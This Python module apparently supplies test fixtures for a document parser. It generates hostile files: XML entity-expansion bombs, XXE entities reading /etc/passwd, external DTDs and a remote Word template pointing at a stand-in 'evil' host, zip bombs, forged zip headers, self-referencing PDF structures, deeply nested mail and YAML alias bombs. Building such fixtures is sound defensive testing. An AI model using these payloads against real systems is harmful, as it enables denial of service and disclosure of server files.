"""What files made to harm are made with: archives, pages, mail, each spoilt in a way of its own."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from docx import Document
from pptx import Presentation
from reportlab.pdfgen.canvas import Canvas

import bombs

WORDS = "The stork on the roof was counted twice."
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
ELSEWHERE = '<!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd">'
PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/evil.dtd"> %x;]>'
_SHOWN = b"BT /F 12 Tf 72 700 Td (%b) Tj ET" % WORDS.encode()
_ODT = "application/vnd.oasis.opendocument.text"
_NAMES = " ".join(
    f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for n in ("office", "text")
)


_EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
MAIN = "word/document.xml"


def docx_bytes() -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph(WORDS)
    document.save(out)
    return out.getvalue()


def pptx_bytes() -> bytes:
    out = io.BytesIO()
    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    slide.shapes.add_textbox(0, 0, 914_400, 914_400).text_frame.text = WORDS
    deck.save(out)
    return out.getvalue()


def odt_bytes(before="", body=f"<text:p>{WORDS}</text:p>", manifest="<manifest/>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", _ODT)
        archive.writestr(
            "content.xml",
            f"{before}<office:document-content {_NAMES}><office:body><office:text>{body}"
            "</office:text></office:body></office:document-content>",
        )
        archive.writestr("META-INF/manifest.xml", manifest)
    return out.getvalue()


def pdf_bytes(**options) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, **options)
    canvas.drawString(72, 700, WORDS)
    canvas.save()
    return out.getvalue()


def rezipped(data, change=None, more=()):
    """An archive with parts changed by name, and with more parts."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as before,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for part in before.infolist():
            content = before.read(part)
            after.writestr(part.filename, change(part.filename, content) if change else content)
        for name, content in more:
            after.writestr(name, content)
    return out.getvalue()


def prefixed(main, words, entity="&j;"):
    """A change that puts a document type before a part, and an entity in it."""

    def change(name, content):
        if name != main:
            return content
        text = content.decode().partition("?>")[2] if content.startswith(b"<?xml") else content
        text = text if isinstance(text, str) else text.decode()
        return f"{words}{text.replace(WORDS, entity)}".encode()

    return change


def written(data):
    return lambda path: path.write_bytes(data() if callable(data) else data)


def lying(data, name, size):
    """An archive that gives a part's size as another than it is."""
    whole = bytearray(rezipped(data, more=[(name, bytes(2_000_000))]))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = whole.rfind(mark)
        struct.pack_into("<I", whole, at + offset, size)
    return bytes(whole)


def flagged(data):
    """An archive whose parts say that they are encrypted."""
    whole = bytearray(data)
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(mark, at + 4)
    return bytes(whole)


def page(content=_SHOWN, font=None, box=b"0 0 600 800", catalogue=b"", more=()):
    """A PDF of one page: its content, its font, its size, more in its catalogue, more objects."""
    font = font or b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"
    objects = [
        b"<</Type /Catalog /Pages 2 0 R %b>>" % catalogue,
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [%b] /Contents 4 0 R /Resources"
        b" <</Font <</F 5 0 R>> /XObject <</X 6 0 R>>>>>>" % box,
        b"<</Length %d>>\nstream\n%b\nendstream" % (len(content), content),
        font,
        *(more or [b"null"]),
    ]
    return lambda path: bombs.pdf(path, objects)


def deflated_page(size):
    """A page whose content unpacks to so many bytes."""
    packed = zlib.compress(b"0 0 m\n" * (size // 6), 9)
    body = b"<</Length %d /Filter /FlateDecode>>\nstream\n%b\nendstream" % (len(packed), packed)
    return lambda path: bombs.pdf(
        path,
        [b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
         b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R>>", body],
    )  # fmt: skip


def loop(kind):
    """A font or a form that draws itself."""
    glyph = b"1000 0 d0 BT /F 1 Tf (a) Tj ET"
    font = (
        b"<</Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.001 0 0 .001 0 0]"
        b" /FirstChar 97 /LastChar 97 /Widths [1000] /Encoding <</Differences [97 /a]>>"
        b" /CharProcs <</a 6 0 R>> /Resources <</Font <</F 5 0 R>>>>>>"
    )
    form = (
        b"<</Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 6 0 R>>>>"
        b" /Length 5>>\nstream\n/X Do\nendstream"
    )
    if kind == "form":
        return page(b"/X Do", more=[form])
    drawn = b"<</Length %d>>\nstream\n%b\nendstream" % (len(glyph), glyph)
    return page(b"BT /F 9 Tf (a) Tj ET", font=font, more=[drawn])


def circular(path):
    """Pages whose parent is one of their own."""
    bombs.pdf(
        path,
        [b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [2 0 R 3 0 R] /Count 2>>",
         b"<</Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 9>>"],
    )  # fmt: skip


def map_font():
    """A font whose table of characters names itself as the one it builds on."""
    mapping = b"/CIDInit /ProcSet findresource begin /Me usecmap 1 begincodespacerange endcmap"
    font = b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R>>"
    body = b"<</CMapName /Me /UseCMap 6 0 R /Length %d>>\nstream\n%b\nendstream"
    return page(font=font, more=[body % (len(mapping), mapping)])


def sparse(path):
    with path.open("wb") as file:
        file.write(b"The stork. ")
        file.truncate(200_000_000)


def mail(*lines):
    return written("\r\n".join(["From: a@b.example", "MIME-Version: 1.0", *lines]).encode())


def nested_mail(depth=300):
    parts = ["Content-Type: message/rfc822", ""] * depth
    return mail(*parts, WORDS)


def aliases():
    rows = ["a0: &a0 [ha, ha]"]
    rows += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return written(("---\n" + "\n".join(rows) + f"\ntitle: *a9\n---\n\n{WORDS}\n").encode())


def many_parts():
    return written(
        lambda: rezipped(docx_bytes(), more=[(f"x/{n}.bin", b"") for n in range(20_001)])
    )


def bare_zip(content, times=1):
    def write(path):
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(times):
                archive.writestr(f"{n}.bin", content)

    return write


def template():
    """A Word document whose template lies on another machine."""
    more = [("word/_rels/settings.xml.rels", _EXTERNAL)]
    return written(lambda: rezipped(docx_bytes(), more=more))


def with_picture(make, name):
    """A document with a picture of nothing at all, ninety megabytes of it."""
    return written(lambda: rezipped(make(), more=[(name, bytes(90_000_000))]))


def with_part(make, name):
    """A document with a part of that name."""
    return written(lambda: rezipped(make(), more=[(name, b"<a/>")]))


def with_type(make, main, words):
    """A document whose main part has a document type of its own."""
    return written(lambda: rezipped(make(), prefixed(main, words)))


def wide():
    """An OpenDocument text whose content is UTF-16, with entities that grow."""
    laughs = f"{LAUGHS[21:]}<a/>".encode("utf-16")
    return written(
        lambda: rezipped(odt_bytes(), lambda name, c: laughs if name == "content.xml" else c)
    )


def deep_docx():
    """A Word document whose elements stand in one another."""
    start = b"<w:body>" + b"<w:sdt><w:sdtContent>" * 40_000

    def change(name, content):
        return content.replace(b"<w:body>", start) if name == MAIN else content

    return written(lambda: rezipped(docx_bytes(), change))
